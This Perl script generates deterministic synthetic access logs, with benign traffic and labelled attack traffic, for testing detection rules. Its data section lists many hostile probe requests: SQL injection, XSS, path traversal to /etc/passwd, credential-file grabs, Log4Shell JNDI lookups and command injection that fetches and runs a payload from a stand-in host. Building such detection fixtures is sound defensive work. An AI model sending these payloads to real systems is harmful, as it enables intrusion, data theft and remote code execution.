#!/usr/bin/perl
#
# Access logs of the combined format to try rules on, the same at every run.
#
#   replay.pl benign          20,000 page views by 1,000 clients and what they load
#   replay.pl attacks         everything below, an address each
#   replay.pl attacks NAME    one of them
#   replay.pl list            NAME ADDRESS LIMIT RULE of each: RULE flags it at
#                             the latest on its request number LIMIT
#   replay.pl probes          METHOD URI of each single probe

use strict;
use warnings;

use POSIX qw(strftime);

# 1 May 2026, 08:00 UTC
my $START = 1777622400;
my $SEED = 20260501;

my @BROWSERS = (
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36'
        . ' (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%1$d.0) Gecko/20100101'
        . ' Firefox/%1$d.0',
    'Mozilla/5.0 (X11; Linux x86_64; rv:%1$d.0) Gecko/20100101 Firefox/%1$d.0',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15'
        . ' (KHTML, like Gecko) Version/17.%d Safari/605.1.15',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X)'
        . ' AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.%d'
        . ' Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36'
        . ' (KHTML, like Gecko) Chrome/%d.0.0.0 Mobile Safari/537.36',
);

my @SEARCHES = (
    'garden+shed', 'O%27Reilly+and+sons', 'rock+%27n%27+roll', 'drop+table+lamp',
    'select+a+union+rep', '50%25+off', 'caf%C3%A9', '%22solid+oak%22+table',
    'c%2B%2B+book', 'how+to+use+%3Cscript%3E', 'user+id', 'order+by+phone',
    'salt+%26+pepper', '5+or+6+chairs', 'what%27s+new', 'etc/passwd',
    'union+jack+%7C+flag', '%D0%BA%D0%BE%D1%82', 'sleep+(album)', 'a;b',
);

my $PLAIN = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101'
    . ' Firefox/128.0';

my @PROBES = map { chomp; length && !/^#/ ? $_ : () } <DATA>;

my @lines;
my $made = 0;
my $random = $SEED;

# not rand(): its numbers are another's on another perl

sub random {
    my ($n) = @_;
    $random = ($random * 1103515245 + 12345) % 2147483648;
    return int(($random >> 8) * $n / 8388608);
}

sub pick { return $_[random(scalar @_)] }

sub line {
    my ($time, $address, $request, $status, %more) = @_;

    push @lines, [$time, $made++, sprintf(
        "%s - %s [%s] \"%s HTTP/1.1\" %d %d \"%s\" \"%s\"\n", $address,
        $more{user} // '-',
        strftime('%d/%b/%Y:%H:%M:%S +0000', gmtime($START + $time)), $request,
        $status, $more{bytes} // 512, $more{referer} // '-',
        $more{agent} // $PLAIN)];
}

sub output {
    print map { $_->[2] }
        sort { int $a->[0] <=> int $b->[0] || $a->[1] <=> $b->[1] } @lines;
}


# ordinary people and robots

sub page {
    my $kind = random(20);
    my $id = random(4000);

    return '/' if $kind < 3;
    return '/search?q=' . pick(@SEARCHES) if $kind < 6;
    return "/c/garden/page/" . (1 + random(40)) if $kind < 9;
    return "/article/$id.html?utm_source=news&utm_medium=mail" if $kind == 9;
    return "/cart?items=$id,2,3&total=10.00" if $kind == 10;
    return "/p/product-$id";
}

sub view {
    my ($time, $address, $agent, $cold) = @_;
    my $uri = page();
    my %more = (agent => $agent);
    my $referer = 'https://shop.example/?from=here';

    # a broken link on a page that many see
    line($time, $address, 'GET /promo/ended', 404, %more) if random(100) == 0;

    line($time, $address, "GET $uri", 200, %more, referer => $referer);
    $more{referer} = 'https://shop.example' . $uri;

    if ($cold) {
        line($time, $address, "GET /assets/$_", 200, %more)
            for qw(site.css app.js vendor.js inter.woff2 logo.svg);
        line($time, $address, 'GET /favicon.ico', 200, %more);
        line($time, $address, 'GET /apple-touch-icon-precomposed.png', 404,
             %more) if $agent =~ /iPhone/;
    }

    line($time + 1, $address, "GET /img/" . random(9000) . '.jpg', 200, %more)
        for 1 .. 3 + random(6);
    line($time + 1, $address, 'GET /img/gone-' . random(50) . '.webp', 404,
         %more) if random(40) == 0;
    line($time + 2, $address, "GET /api/stock?id=" . random(4000), 200, %more)
        for 1 .. random(4);
}

sub login {
    my ($time, $address, $agent) = @_;
    my $wrong = random(10) == 0 ? 1 + random(3) : 0;

    line($time, $address, 'GET /login?next=%2Faccount', 200, agent => $agent);
    line($time + 8 * $_, $address, 'POST /login', 401, agent => $agent)
        for 1 .. $wrong;
    line($time + 8 * ($wrong + 1), $address, 'POST /login', 302,
         agent => $agent);
    line($time + 8 * ($wrong + 1), $address, 'GET /account', 200,
         agent => $agent);
}

sub person {
    my ($address, $views, $office) = @_;
    my $agent = sprintf pick(@BROWSERS), 100 + random($office ? 2 : 28);
    my $time = 60 + random($office ? 900 : 7200);

    login($time - 30, $address, $agent) if $office || random(3) == 0;

    for (1 .. $views) {
        view($time, $address, $agent, $_ == 1);
        line($time + 4, $address, 'POST /contact', 302, agent => $agent)
            if random(60) == 0;
        $time += 5 + random(90);
    }
}

# a page that calls home in dozens, as some do when they start

sub application {
    my ($address) = @_;
    my $agent = sprintf pick(@BROWSERS), 100 + random(28);
    my $time = random(7200);

    line($time, $address, 'GET /app/', 200, agent => $agent);
    line($time + $_ / 60, $address, "GET /api/v2/widgets/$_.json", 200,
         agent => $agent) for 1 .. 240;
    line($time + 5 * $_, $address, 'GET /api/v2/notifications', 200,
         agent => $agent) for 1 .. 360;
}

sub robots {
    my $poll = 'Monitor/2.1 (+https://status.example/about)';

    line(60 * $_, '198.51.100.7', 'HEAD /', 200, agent => $poll)
        for 0 .. 119;
    line(60 * $_ + 7, '198.51.100.7', 'GET /health/db', 503, agent => $poll)
        for 0 .. 119;
    line(60 * $_ + 9, '198.51.100.8', 'GET /', 200, agent => '-')
        for 0 .. 119;
    line($_, '198.51.100.9', 'GET /api/v1/orders?since=' . $_, 200,
         agent => 'python-requests/2.31.0') for 0 .. 7199;
    line(300 * $_ + 11, "198.51.100.$_", 'GET /feed/', $_ % 3 ? 304 : 200,
         agent => 'FeedFetcher/1.4; 12 subscribers') for 20 .. 23;

    # search engines: old pages are gone, some are forbidden
    for (0 .. 1999) {
        my $uri = $_ % 25 ? "/p/product-$_" : "/old/article-$_";
        line(3 * $_, '198.51.100.40', "GET $uri", $_ % 25 ? 200 : 404,
             agent => 'Mozilla/5.0 (compatible; bingbot/2.0;'
                . ' +http://www.bing.com/bingbot.htm)');
    }
    line(100, '198.51.100.40', 'GET /robots.txt', 200);

    # a fast one, and a link checker that finds a few dead links
    line($_ / 4, '198.51.100.41', "GET /c/garden/page/$_", 200,
         agent => 'Mozilla/5.0 (compatible; ExampleBot/1.0;'
            . ' +https://bot.example/)') for 0 .. 1199;
    line(1000 + $_, '198.51.100.42', "HEAD /p/product-$_", $_ % 120 ? 200 : 404,
         agent => 'LinkChecker/10.2') for 0 .. 999;

    # a calendar, an editor at work, an upload
    line(600 * $_, '198.51.100.50', $_ % 2 ? 'PROPFIND /dav/anna/'
         : 'REPORT /dav/anna/calendar/', 207,
         agent => 'DAVx5/4.3 (Android)', user => 'anna') for 0 .. 11;
    line(15 * $_, '198.51.100.51', 'POST /wp-admin/admin-ajax.php', 200)
        for 0 .. 479;
    line(20, '198.51.100.51', 'GET /wp-login.php', 200);
    line(40, '198.51.100.51', 'POST /wp-login.php', 302);
    line(60 + 30 * $_, '198.51.100.51', "GET /wp-admin/post.php?post=$_&action=edit",
         200) for 0 .. 99;
    line(10 + $_, '198.51.100.52', "PUT /api/v1/files/photo-$_.jpg", 201,
         agent => 'okhttp/4.12.0') for 0 .. 299;
}

sub benign {
    # 950 alone, 50 behind one address, who all begin at eight; 20 views each
    person(sprintf('203.0.%d.%d', 113 + int($_ / 250), 1 + $_ % 250), 20)
        for 0 .. 949;
    person('192.0.2.50', 20, 1) for 1 .. 50;
    application(sprintf '203.0.120.%d', $_) for 1 .. 10;
    robots();
}


# what is to be flagged: name => [limit, rule, sub (address)]

sub series {
    my ($n, $step, $uri, $status, %more) = @_;

    return sub {
        my ($address) = @_;
        for my $i (1 .. $n) {
            my ($to, %now) = ($uri, %more);
            s/\{n\}/$i/g for $to, values %now;
            line($step * $i, $address, $to, $status, %now);
        }
    };
}

my %ATTACKS = (
    guess_401   => [8, 'login_failures', series(10, 3, 'POST /login', 401)],
    guess_403   => [8, 'login_failures', series(10, 3, 'POST /user/login', 403)],
    guess_200   => [8, 'login_guessing',
                    series(10, 3, 'POST /wp-login.php', 200)],
    guess_302   => [8, 'login_guessing', series(10, 3, 'POST /signin', 302)],
    guess_slow  => [10, 'login_failures', series(10, 15, 'POST /login', 401)],
    guess_basic => [8, 'login_failures',
                    series(10, 3, 'GET /private/', 401, user => 'admin')],
    guess_xmlrpc => [8, 'login_guessing',
                     series(10, 2, 'POST /xmlrpc.php', 200)],
    guess_agents => [34, 'login_attempts',
                     series(40, 0.5, 'POST /wp-login.php', 200,
                            agent => 'Mozilla/5.0 (X11) Firefox/{n}00.0')],
    spray       => [8, 'login_failures', series(20, 3, 'POST /login', 401)],
    spray_named => [11, 'spraying', series(20, 70, 'GET /private/', 401,
                                           user => 'user{n}')],
    spray_200   => [8, 'login_guessing', series(20, 3, 'POST /login', 200)],
    probing     => [12, 'probing', series(15, 4, 'GET /unknown/{n}', 404)],
    forbidden   => [12, 'probing', series(15, 4, 'GET /internal/{n}', 403)],
    scripts     => [6, 'script_probing', series(15, 20, 'GET /x{n}.php', 404)],
    crawling    => [185, 'page_flood',
                    series(200, 0.1, 'GET /p/product-{n}', 200)],
    flood       => [680, 'request_flood',
                    series(1000, 0.005, 'GET /assets/app.js', 200)],
    agent       => [1, 'scanner_agent',
                    series(1, 0, 'GET /', 200, agent => 'sqlmap/1.8')],
    agent_code  => [1, 'header_injection',
                    series(1, 0, 'GET /', 200,
                           agent => '${jndi:ldap://192.0.2.1/a}')],
    referer_code => [1, 'referer_injection',
                     series(1, 0, 'GET /', 200,
                            referer => '${jndi:ldap://192.0.2.1/a}')],
);

sub attacks {
    my ($only) = @_;
    my @list;
    my $n = 0;

    for my $name (sort keys %ATTACKS) {
        my ($limit, $rule, $make) = @{ $ATTACKS{$name} };
        my $address = '10.1.0.' . ++$n;
        push @list, [$name, $address, $limit, $rule];
        $make->($address) if !defined $only || $only eq $name;
    }

    for my $i (0 .. $#PROBES) {
        my $name = sprintf 'probe_%03d', $i + 1;
        my $address = sprintf '10.2.%d.%d', $i / 200, 1 + $i % 200;
        push @list, [$name, $address, 1, '-'];
        line(0, $address, $PROBES[$i], 404)
            if !defined $only || $only eq $name;
    }

    return @list;
}

my ($what, $name) = @ARGV;
$what //= '';

if ($what eq 'benign') {
    benign();
    output();
} elsif ($what eq 'attacks') {
    attacks($name);
    @lines or die "replay.pl: no attack \"$name\"\n";
    output();
} elsif ($what eq 'list') {
    print map { "@$_\n" } attacks();
} elsif ($what eq 'probes') {
    print map { "$_\n" } @PROBES;
} else {
    die "usage: replay.pl benign|attacks [NAME]|list|probes\n";
}

__DATA__
GET /.env
GET /api/.env.production
GET /.git/config
GET /.git/HEAD
GET /.svn/entries
GET /.aws/credentials
GET /.ssh/id_rsa
GET /.DS_Store
GET /.vscode/sftp.json
GET /.htpasswd
GET /wp-config.php.bak
GET /wp-config.php~
GET /config.php.old
GET /index.php.bak
GET /web.config
GET /backup.zip
GET /backup.sql
GET /dump.sql.gz
GET /database.sql
GET /server.key
GET /id_rsa
GET /phpinfo.php
GET /info.php
GET /server-status
GET /actuator/env
GET /actuator/heapdump
GET /debug/pprof/
GET /telescope/requests
GET /storage/logs/laravel.log
GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
POST /vendor/phpunit/src/Util/PHP/eval-stdin.php
POST /_ignition/execute-solution
POST /boaform/admin/formLogin
GET /HNAP1/
GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http://1.2.3.4/x%60)
GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*
GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws
GET /solr/admin/info/system?wt=json
GET /?XDEBUG_SESSION_START=phpstorm
GET /owa/auth/x.js?x=msexchecp
GET /autodiscover/autodiscover.json?@test.com/owa/
GET /shell.php
GET /wso.php
GET /alfa.php
GET /wp-content/uploads/2024/x.php
GET /cmd.jsp
GET /c99.php
GET /?page=../../../../etc/passwd
GET /index.php?file=....//....//....//etc/passwd
GET /download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
GET /?f=/etc/passwd
GET /?f=php://filter/convert.base64-encode/resource=index.php
GET /item?id=1%27%20OR%20%271%27=%271
GET /item?id=1'+OR+1=1--
GET /item?id=1%20UNION%20SELECT%20NULL,NULL,NULL
GET /item?id=-1+union+all+select+1,2,concat(user(),0x3a)+from+users--
GET /item?id=1%20AND%20SLEEP(5)
GET /item?id=1;WAITFOR%20DELAY%20%270:0:5%27
GET /item?id=1)%20AND%201=1
GET /item?id=1%20AND%201=1
GET /item?id=1%20and%20(select%20*%20from(select(sleep(5)))a)
GET /item?id=1%27%20and%20extractvalue(1,concat(0x7e,version()))
GET /item?id=admin%27--%20
GET /item?id=1;DROP%20TABLE%20users
GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E
GET /search?q=<script>alert(document.cookie)</script>
GET /search?q=%22%3E%3Csvg%20onload=alert(1)%3E
GET /search?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E
GET /redirect?url=javascript:alert(1)
GET /ping?ip=127.0.0.1;cat%20/etc/passwd
GET /ping?ip=127.0.0.1%7Cid
GET /ping?ip=$(whoami)
GET /ping?ip=%60id%60
GET /x?cmd=wget%20http://1.2.3.4/a.sh
GET /x?cmd=cat+/etc/passwd
GET /x?cmd=whoami
GET /?x=${jndi:ldap://1.2.3.4/a}
GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fa%7D
GET /?x=$%7b$%7blower:j%7dndi:ldap://x/a%7d
GET /?name={{7*7}}
GET /?name=%7B%7B7*7%7D%7D
GET /?name=${7*7}
GET /?name={{config.__class__.__init__.__globals__}}
GET /?class.module.classLoader.URLs%5B0%5D=0
GET /?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input
GET /?q=%00
GET http://example.org/
TRACE /
DEBUG /
PUT /x.jsp/
PUT /shell.php
GET /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php
GET //blog/wp-includes/wlwmanifest.xml
GET /console/css/%252e%252e%252fconsole.portal
GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp
GET /.well-known/../.env
GET /nmaplowercheck1234
GET /%5c..%5c..%5cwindows/win.ini
GET /static/..%252f..%252fetc/passwd
GET /?id=1%20or%20sleep(5)%23
GET /?id=(SELECT%20CHAR(113))
GET /?id=1'%20ORDER%20BY%2010--%20
GET /?id=1%20ORDER%20BY%2010--
GET /?u=http://169.254.169.254/latest/meta-data/
GET /?a=gopher://127.0.0.1:6379/_x
GET /?x=O:8:%22stdClass%22:0:%7B%7D
GET /?q=%3C%3Fphp%20system($_GET[0]);%3F%3E
GET /login?user[$ne]=x
GET /?q=%0d%0aSet-Cookie:x=1
GET /?x=1%0d%0aX-Injected:%20header
GET /index.php?option=com_x&controller=../../../../proc/self/environ%00
GET /item?id=1)%20AND%201234=5678%20AND%20(7534=7534
GET /item?id=1'%20AND%206666=6666%20AND%20'x'='x
GET /item?id=(SELECT%20(CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%202%20END))
GET /item?id=1%20RLIKE%20(SELECT%201)
GET /item?id=1;SELECT%20PG_SLEEP(5)--
GET /item?id=%22%20or%20%22a%22=%22a
GET /item?id=1%20AND%20(SELECT%204321%20FROM%20(SELECT%20COUNT(*)))
GET /s?q=%22onmouseover=%22alert(1)
GET /s?q='-alert(1)-'
GET /s?q=%3C/script%3E%3CsCrIpT%3Eprompt(1)
GET /s?q=%3Cdetails%20open%20ontoggle=alert(1)%3E
GET /?q=<%25=%207*7%20%25>
GET /?p=....//....//etc/passwd
GET /.env.bak
GET /.gitignore
GET /prod.env
GET /index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array&vars[0]=system
GET /..;/manager/status
